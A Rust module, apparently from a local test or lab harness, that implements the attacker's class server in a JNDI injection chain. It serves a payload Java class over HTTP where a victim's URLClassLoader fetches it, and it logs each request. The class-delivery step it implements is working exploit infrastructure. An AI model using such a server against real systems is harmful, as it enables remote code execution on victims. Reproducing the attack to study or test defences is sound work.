//! The attacker's class server: serves the payload class at `/<ClassName>.class`, which is
//! where the victim's URLClassLoader looks for the javaFactory under the javaCodeBase.

use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::journal::{Event, Journal};

/// Binds the server to 127.0.0.1 on a free port.
pub async fn bind() -> std::io::Result<TcpListener> {
    TcpListener::bind(("127.0.0.1", 0)).await
}

/// Serves `class` at `path` until the task is dropped.
pub async fn serve(listener: TcpListener, path: String, class: Arc<Vec<u8>>, journal: Journal) {
    while let Ok((stream, peer)) = listener.accept().await {
        let (path, class, journal) = (path.clone(), class.clone(), journal.clone());
        tokio::spawn(async move {
            if let Some((requested, status, bytes)) = answer(stream, &path, &class).await {
                journal.record(Event::HttpRequest {
                    peer,
                    path: requested,
                    status,
                    bytes,
                });
            }
        });
    }
}

/// Reads one request head and answers it; returns (path, status, body length).
async fn answer(mut stream: TcpStream, path: &str, class: &[u8]) -> Option<(String, u16, usize)> {
    let mut head = Vec::new();
    let mut chunk = [0u8; 1024];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = stream.read(&mut chunk).await.ok()?;
        if n == 0 || head.len() > 16 * 1024 {
            return None;
        }
        head.extend_from_slice(&chunk[..n]);
    }
    let head = String::from_utf8_lossy(&head);
    let mut words = head.lines().next()?.split_whitespace();
    let (method, requested) = (words.next()?, words.next()?.to_string());
    let (status, reason, body): (u16, &str, &[u8]) = if method == "GET" && requested == path {
        (200, "OK", class)
    } else {
        (404, "Not Found", b"")
    };
    let header = format!(
        "HTTP/1.1 {status} {reason}\r\nContent-Type: application/java-vm\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    stream.write_all(header.as_bytes()).await.ok()?;
    stream.write_all(body).await.ok()?;
    stream.shutdown().await.ok()?;
    Some((requested, status, body.len()))
}
